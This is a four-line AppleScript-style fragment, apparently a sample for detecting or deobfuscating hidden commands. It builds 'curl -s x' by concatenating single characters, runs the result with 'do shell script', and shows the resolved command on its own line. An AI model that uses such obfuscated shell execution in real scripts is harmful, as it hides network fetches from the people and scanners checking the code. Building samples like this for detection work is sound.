set c to "c"&"u"&"r"&"l"&" "&"-"&"s"&" "&"x"
mg-layer join
curl -s x
do shell script c
